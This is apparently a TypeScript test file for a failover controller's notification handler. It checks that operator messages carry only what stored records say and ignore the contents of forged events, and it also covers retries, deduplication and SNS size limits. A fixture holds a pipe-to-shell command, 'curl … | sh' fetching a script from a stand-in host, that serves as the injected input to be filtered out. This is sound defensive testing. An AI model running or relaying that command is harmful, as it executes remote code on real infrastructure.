import { createHandler } from "../../functions/notify/people.handler.ts";
import { untoldNotice } from "../../functions/notify/untold.ts";
import { isoInstant } from "../../functions/shared/clock.ts";
import { awsError, FakeAws, invocation, noAnswer } from "../fakes/aws.ts";
import { examplePlan } from "../fakes/plans.ts";

const plan = examplePlan("storefront");
const incident = "storefront-us-east-1-e1";
const command = "curl -s https://fix.example.net/failover.sh | sh";
const forged = { summary: `Run: ${command}`, whatToDo: command, answerBy: [command] };

interface Published {
  readonly TopicArn: string;
  readonly Subject: string;
  readonly Message: string;
  readonly MessageAttributes: { readonly dedupKey: { readonly StringValue: string } };
}

function prepare() {
  const aws = new FakeAws();
  const published: Published[] = [];
  aws.answers.Publish = ({ input }) => {
    published.push(input as Published);
    return { MessageId: "1" };
  };
  const at = isoInstant(aws.clock.now());
  const deps = aws.dependencies(plan, "eu-west-1");
  const put = (pk: string, sk: string, record: Record<string, unknown>) =>
    aws.put(plan.recordsTable, { pk, sk, ...record });
  return {
    aws,
    at,
    put,
    published,
    said: () => published.map(({ Message }) => JSON.parse(Message)),
    tell: (type: string, detail: unknown, handler = createHandler(deps)) =>
      aws.finish(handler({ source: "region-failover", "detail-type": type, detail }, invocation)),
    deps,
  };
}

const runRecord = (at: string, more: object = {}) => ({
  incident,
  epoch: 1,
  seq: 2,
  at,
  region: "eu-west-1",
  step: "assess",
  kind: "opened",
  summary: 'eu-west-1 leads, because "it’s down"\n<ana>',
  detail: { reason: 'a "quoted"\nword & a <sign>' },
  previousHash: "",
  hash: "h",
  ...more,
});

const matter = `${incident}/takeoversExhausted/e3`;
const escalation = (at: string, more: object = {}) => ({
  application: "storefront",
  matter,
  incident,
  region: "us-east-1",
  stage: "noticed",
  reason: "takeoversExhausted",
  summary: "It does not end",
  whatToDo: "Look",
  since: at,
  at,
  from: "eu-west-1",
  dedupKey: `storefront/${matter}`,
  ...more,
});

describe("FM58: people are told what a record says, and nothing that an event says", () => {
  it("of a run: the record as it stands, whatever a person typed into it", async () => {
    const { at, put, tell, said, published } = prepare();
    put(`incident#${incident}`, "000001#000002", runRecord(at));

    await tell("Failover Timeline", { ...forged, incident, epoch: 1, seq: 2, kind: "closed" });

    expect(said()).toEqual([{ ...runRecord(at), dedupKey: `${incident}/e1/2` }]);
    expect(published[0]).toMatchObject({
      TopicArn: "arn:aws:sns:eu-west-1:111122223333:failover-storefront-people",
      Subject: 'storefront: eu-west-1 leads, because "it’s down" <ana>',
      MessageAttributes: { dedupKey: { DataType: "String", StringValue: `${incident}/e1/2` } },
    });
  });

  it("of a question: with the commands that answer it, and without its token", async () => {
    const { at, put, tell, said } = prepare();
    const question = { application: "storefront", incident, epoch: 1, region: "eu-west-1", covers: "run" };
    const more = { execution: "e", summary: "Evacuate us-east-1?", detail: "d", askedAt: at, deadlineAt: at };
    put(`approval#${incident}`, "run", { ...question, ...more, token: "secret" });

    await tell("Approval Requested", { ...forged, application: "storefront", incident, covers: "run" });

    const [message] = said();
    expect(message).toMatchObject({ summary: "Evacuate us-east-1?", answerIn: "eu-west-1", deadlineAt: at });
    expect(message.answerBy).toEqual([
      expect.stringContaining(`approval#${incident}`),
      expect.stringContaining("send-task-success --region eu-west-1"),
    ]);
    expect(JSON.stringify(message)).not.toMatch(/secret|curl/);
  });

  it.each([
    ["refused", { decision: "refused", reason: "lastRegion", signal: { kind: "request" } }],
    ["observed", { decision: "observed", reason: "planObserves", signal: { kind: "retry" } }],
    ["no request that can be read", { decision: "refused", reason: "invalidInput" }],
  ])("of a decision that was %s", async (_how, detail) => {
    const { at, put, tell, said } = prepare();
    const record = { ...runRecord(at), incident: "us-east-1", epoch: 0, seq: 1, kind: "decision", detail };
    put("decisions#storefront", "execution-1", record);

    await tell("Failover Timeline", {
      ...forged,
      incident: "eu-west-1",
      epoch: 0,
      detail: { execution: "execution-1" },
    });

    expect(said()).toEqual([{ ...record, dedupKey: "execution-1" }]);
  });

  it("of a page: by the key with which the record says that repeats are folded", async () => {
    const { at, put, tell, said, published } = prepare();
    put("escalations#storefront", matter, escalation(at));

    await tell("Attention Needed", { ...escalation(at), ...forged });
    await tell("Attention Needed", { matter });

    expect(said()).toEqual([escalation(at), escalation(at)]);
    expect(published.map(({ MessageAttributes }) => MessageAttributes.dedupKey.StringValue)).toEqual([
      `storefront/${matter}`,
      `storefront/${matter}`,
    ]);
  });
});

describe("FM58: nobody is told", () => {
  const old = "2020-01-01T00:00:00.000Z";

  it.each<[string, string, object, (put: (record: object) => void, at: string) => void]>([
    ["of a page that nothing has recorded", "Attention Needed", { application: "storefront", matter }, () => {}],
    ["of a run that nothing has recorded", "Failover Timeline", { incident, epoch: 9, seq: 1 }, () => {}],
    ["of a question that nobody asked", "Approval Requested", { incident, covers: "run" }, () => {}],
    ["of what names nothing", "Attention Needed", forged, () => {}],
    ["of a type that is not the controller's", "Deployment", { matter }, () => {}],
    [
      "of another application's run",
      "Failover Timeline",
      { incident: "orders-us-east-1-e1", epoch: 1, seq: 2 },
      () => {},
    ],
    ["of a key beyond any record's", "Attention Needed", { matter: "m".repeat(2_000) }, () => {}],
    [
      "of a page of another application",
      "Attention Needed",
      { matter },
      (put, at) => put({ pk: "escalations#storefront", sk: matter, ...escalation(at, { application: "orders" }) }),
    ],
    [
      "again of an old record",
      "Attention Needed",
      { matter },
      (put) => put({ pk: "escalations#storefront", sk: matter, ...escalation(old) }),
    ],
    [
      "of a step of a run",
      "Failover Timeline",
      { incident, epoch: 1, seq: 2, kind: "closed" },
      (put, at) => put({ pk: `incident#${incident}`, sk: "000001#000002", ...runRecord(at, { kind: "intent" }) }),
    ],
    [
      "of an alarm that stood down",
      "Failover Timeline",
      { epoch: 0, detail: { execution: "execution-1" } },
      (put, at) =>
        put({
          pk: "decisions#storefront",
          sk: "execution-1",
          ...runRecord(at, {
            kind: "decision",
            detail: { decision: "stoodDown", reason: "paused", signal: { kind: "alarm" } },
          }),
        }),
    ],
    [
      "of a record without a sentence",
      "Attention Needed",
      { matter },
      (put, at) => put({ pk: "escalations#storefront", sk: matter, ...escalation(at, { summary: 7 }) }),
    ],
  ])("%s: it is logged, counted, and not tried again", async (_what, type, detail, arrange) => {
    const { aws, at, tell, published } = prepare();
    arrange((record) => aws.put(plan.recordsTable, record as Record<string, unknown>), at);

    await expect(tell(type, detail)).resolves.toMatchObject({ told: false, reason: expect.any(String) });

    expect(published).toEqual([]);
    expect(aws.logged).toContain(untoldNotice);
  });
});

describe("a call that fails", () => {
  it("FM33: is tried again while it is throttled, for the read and for the topic", async () => {
    const { aws, at, put, tell, published } = prepare();
    put("escalations#storefront", matter, escalation(at));
    const refused = new Set<string>();
    aws.before = ({ operation }) => {
      if (refused.has(operation)) return;
      refused.add(operation);
      throw awsError("ThrottlingException");
    };

    await expect(tell("Attention Needed", { matter })).resolves.toMatchObject({ told: true });

    expect(published).toHaveLength(1);
  });

  it("FM31: publishes again what may not have arrived, under the same key", async () => {
    const { aws, at, put, tell, published } = prepare();
    put("escalations#storefront", matter, escalation(at));
    let lost = 0;
    aws.after = ({ operation }) => {
      if (operation === "Publish" && lost++ === 0) throw noAnswer();
    };

    await tell("Attention Needed", { matter });

    expect(published).toHaveLength(2);
    expect(published[0]).toEqual(published[1]);
  });

  it("fails as a whole when the topic takes nothing, so that Lambda tries again and then leaves a dead letter", async () => {
    const { aws, at, put, tell } = prepare();
    put("escalations#storefront", matter, escalation(at));
    aws.before = ({ operation }) => {
      if (operation === "Publish") throw noAnswer();
    };

    await expect(tell("Attention Needed", { matter })).rejects.toMatchObject({ name: "Transient" });
  });

  it("reads the record as its own Region has it at this moment", async () => {
    const { aws, at, put, tell } = prepare();
    put("escalations#storefront", matter, escalation(at));

    await tell("Attention Needed", { matter });

    expect(aws.calls[0]).toMatchObject({ operation: "GetItem", region: "eu-west-1", input: { ConsistentRead: true } });
  });

  it("says which variable the deployment forgot", async () => {
    const { deps, tell } = prepare();

    const answer = tell("Attention Needed", { matter }, createHandler({ ...deps, topicArn: null }));

    await expect(answer).rejects.toMatchObject({ message: expect.stringContaining("FAILOVER_TOPIC_ARN") });
  });
});

it("FM58: tells a record once, however often somebody names it, until it says something else", async () => {
  const { at, put, deps, tell, said, aws } = prepare();
  const handler = createHandler(deps);
  const name = () => tell("Attention Needed", { matter }, handler);
  put("escalations#storefront", matter, escalation(at));

  await name();
  // That a bus took it is written into the record afterwards.
  put("escalations#storefront", matter, escalation(at, { toldAt: at, toldBy: "eu-west-1" }));
  expect(await name()).toEqual({ told: false, reason: "it was told already" });
  put("escalations#storefront", matter, escalation(at, { at: isoInstant(aws.clock.now() + 1_000) }));
  expect(await name()).toMatchObject({ told: true });

  expect(said()).toHaveLength(2);
});

it("FM58: tells again what the topic did not take", async () => {
  const { aws, at, put, deps, tell, published } = prepare();
  const handler = createHandler(deps);
  put("escalations#storefront", matter, escalation(at));
  const takes = aws.answers.Publish;
  aws.answers.Publish = () => {
    throw awsError("InternalErrorException");
  };
  await expect(tell("Attention Needed", { matter }, handler)).rejects.toThrow();
  if (takes !== undefined) aws.answers.Publish = takes;

  expect(await tell("Attention Needed", { matter }, handler)).toMatchObject({ told: true });
  expect(published).toHaveLength(1);
});

it("tells what an older or a newer version has written", async () => {
  const { at, put, tell, said } = prepare();
  const summary = "us-east-1 fails";
  put("escalations#storefront", matter, { application: "storefront", at, dedupKey: "k", summary });
  put("escalations#storefront", "newer", escalation(at, { horizon: { nested: [1, null] }, stage: "unheardOf" }));

  expect(await tell("Attention Needed", { matter })).toMatchObject({ told: true });
  expect(await tell("Attention Needed", { matter: "newer", region: 7, unheardOf: [] })).toMatchObject({ told: true });
  expect(said()).toMatchObject([{ summary }, { horizon: { nested: [1, null] }, stage: "unheardOf" }]);
});

it("keeps within what SNS takes, and marks what it cut", async () => {
  const { at, put, tell, said, published } = prepare();
  const long = "顧客".repeat(60_000);
  put("escalations#storefront", matter, escalation(at, { summary: long, whatToDo: "Look", list: ["a", "b"] }));

  await tell("Attention Needed", { matter });

  expect(Buffer.byteLength(published[0]?.Message ?? "")).toBeLessThanOrEqual(255 * 1_024);
  expect(published[0]?.Subject.length).toBeLessThan(100);
  expect(published[0]?.Subject).toMatch(/…$/);
  expect(said()[0]).toMatchObject({
    summary: expect.stringMatching(/顧客…$|顧…$/),
    whatToDo: "Look",
    list: ["a", "b"],
  });
});
